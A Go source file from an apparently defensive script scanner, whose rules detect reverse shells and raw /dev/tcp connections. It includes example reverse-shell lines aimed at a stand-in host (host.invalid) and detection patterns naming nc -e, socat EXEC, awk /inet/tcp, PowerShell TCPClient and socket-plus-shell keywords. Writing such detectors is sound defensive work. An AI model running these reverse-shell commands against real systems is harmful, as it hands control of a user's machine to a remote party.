package checks

import (
	"strings"

	"pinion/scan"
)

func reverseShellRules() []scan.Rule {
	return []scan.Rule{
		{
			ID: "shell/reverse-shell", Level: scan.Critical, Since: "0.2.0",
			Title: "a shell is connected to another machine",
			Help: "A command joins the input and output of a shell with a network connection: whoever is at the other end types commands on the user's machine. " +
				"In documentation for people, in a quoted example or in a string of other code it is medium, since scanners and courses quote it. " +
				"Waiting for a port (`echo > /dev/tcp/localhost/5432`, `nc -z`) and ssh are not reported.",
			Fix:     "take it out",
			Example: "bash -i >& /dev/tcp/host.invalid/4444 0>&1",
		},
		{
			ID: "shell/raw-socket", Level: scan.Medium, Since: "0.2.0",
			Title: "the shell talks to another machine without a program",
			Help: "Bash opens a connection by writing to /dev/tcp or /dev/udp. It is used where curl would be seen or is missing. " +
				"Private addresses and variables, as in scripts that wait for a service, are not reported.",
			Fix:     "use a program for it, such as curl, and name the host in the manifest",
			Example: "exec 3<>/dev/tcp/host.invalid/80",
		},
	}
}

// reverseShell reports a shell whose streams are those of a connection.
func reverseShell(v *shellView, c *shellCall) {
	if how := reverse(v, c); how != "" {
		v.report(scan.Critical, "shell/reverse-shell", c, "a shell is connected to another machine by %s", how)
		return
	}
	for _, r := range c.Redirects {
		if host := socketHost(v.expand(r.Target.Text)); host != "" && !isPrivateHost(host) && !strings.Contains(host, "$") && !v.remote {
			v.report(scan.Medium, "shell/raw-socket", c, "the shell opens a connection to %s", scan.Escape(host, 60))
			v.note(sendsData, c, host)
			noteHost(v, c, host)
		}
	}
}

// socketHost returns the host of /dev/tcp/HOST/PORT.
func socketHost(path string) string {
	for _, p := range []string{"/dev/tcp/", "/dev/udp/"} {
		if rest, ok := strings.CutPrefix(path, p); ok {
			host, _, _ := strings.Cut(rest, "/")
			return strings.ToLower(host)
		}
	}
	return ""
}

func reverse(v *shellView, c *shellCall) string {
	shell := isShellProgram(c.name) || c.name == "cmd" || c.name == "powershell" || c.name == "pwsh"
	for _, r := range c.Redirects {
		target := v.expand(r.Target.Text)
		if shell && socketHost(target) != "" && c.value0("-c") == "" {
			return "/dev/tcp"
		}
		// exec 5<>/dev/tcp/…; sh <&5 >&5
		if shell && (r.Op == "<&" || r.Op == ">&") && target != "" && target != "0" && target != "1" && target != "2" && strings.Trim(target, "0123456789") == "" && v.opensSocket() {
			return "/dev/tcp"
		}
	}
	switch c.name {
	case "nc", "ncat", "netcat", "nc.traditional":
		for _, o := range []string{"-e", "-c", "--exec", "--sh-exec"} {
			if prog, i := c.value(o); i >= 0 && (isShellProgram(baseName(firstField(prog))) || baseName(firstField(prog)) == "cmd" || strings.HasPrefix(baseName(firstField(prog)), "powershell")) {
				return "nc " + o
			}
		}
		fallthrough
	case "telnet":
		if c.Stage > 0 && v.shellBefore(c) {
			return "a pipe to " + c.name
		}
	case "openssl":
		if len(c.args) > 0 && c.args[0].text == "s_client" && c.Stage > 0 && v.shellBefore(c) {
			return "a pipe to openssl"
		}
	case "socat":
		exec, net := false, false
		for _, a := range c.args {
			up := strings.ToUpper(a.text)
			exec = exec || (strings.HasPrefix(up, "EXEC:") || strings.HasPrefix(up, "SYSTEM:")) && strings.Contains(strings.ToLower(a.text), "sh") || strings.HasPrefix(up, "EXEC:CMD")
			net = net || strings.HasPrefix(up, "TCP") || strings.HasPrefix(up, "OPENSSL") || strings.HasPrefix(up, "UDP") || strings.HasPrefix(up, "SSL")
		}
		if exec && net {
			return "socat"
		}
	case "awk", "gawk":
		for _, a := range c.args {
			if strings.Contains(a.text, "/inet/tcp/") && strings.Contains(a.text, "|&") {
				return "awk"
			}
		}
	}
	if code := c.oneLiner(); code != "" && reverseCode(code) {
		return "a line of " + c.name
	}
	if v.power {
		low := strings.ToLower(c.path)
		for _, a := range c.args {
			low += " " + strings.ToLower(a.text)
		}
		if strings.Contains(low, "sockets.tcpclient") && v.invokes() {
			return "a TCP client of PowerShell"
		}
	}
	return ""
}

// reverseCode reports whether a line of another language joins a socket and a
// shell.
func reverseCode(code string) bool {
	low := strings.ToLower(code)
	socket, run := false, false
	for _, w := range []string{"socket.socket", "socket(", "tcpsocket", "fsockopen", "io::socket", "net.socket", "net.connect", "require('net')", `require("net")`, "socket.tcp", "stream_socket_client"} {
		socket = socket || strings.Contains(low, w)
	}
	for _, w := range []string{"dup2", "pty.spawn", "/bin/sh", "/bin/bash", "cmd.exe", "'sh'", `"sh"`, "'bash'", `"bash"`, "shell_exec", "proc_open", "popen"} {
		run = run || strings.Contains(low, w)
	}
	return socket && run
}

// oneLiner returns the program text among the arguments of an interpreter.
func (c *shellCall) oneLiner() string {
	if isShellProgram(c.name) || !isInterpreter(c.name) {
		return ""
	}
	for i, a := range c.args {
		if len(a.text) > 1 && a.text[0] == '-' && (strings.HasSuffix(a.text, "e") || strings.HasSuffix(a.text, "c") || a.text == "-r" || a.text == "--eval") && i+1 < len(c.args) {
			return c.args[i+1].text
		}
	}
	return ""
}

func (c *shellCall) value0(options ...string) string {
	s, _ := c.value(options...)
	return s
}

func firstField(s string) string {
	s, _, _ = strings.Cut(strings.TrimSpace(s), " ")
	return s
}

// shellBefore reports whether a shell that reads its input is a stage of the
// same pipeline before c, as in "cat f | sh -i | nc host 1 > f".
func (v *shellView) shellBefore(c *shellCall) bool {
	for i := c.index - 1; i >= max(0, c.index-maxLookBack) && v.calls[i].Pipeline >= c.Pipeline-1; i-- {
		b := &v.calls[i]
		if b.Pipeline == c.Pipeline && b.Stage < c.Stage && isShellProgram(b.name) && (b.Stage > 0 || b.flag("i")) && readsInput(b) {
			return true
		}
	}
	return false
}

// opensSocket reports whether the script opens a connection with exec.
func (v *shellView) opensSocket() bool {
	for i := range v.calls {
		for _, r := range v.calls[i].Redirects {
			if r.Op == "<>" && socketHost(v.expand(r.Target.Text)) != "" {
				return true
			}
		}
	}
	return false
}

// invokes reports whether a PowerShell script runs text.
func (v *shellView) invokes() bool {
	for i := range v.calls {
		if n := v.calls[i].name; n == "iex" || n == "invoke-expression" {
			return true
		}
	}
	return false
}
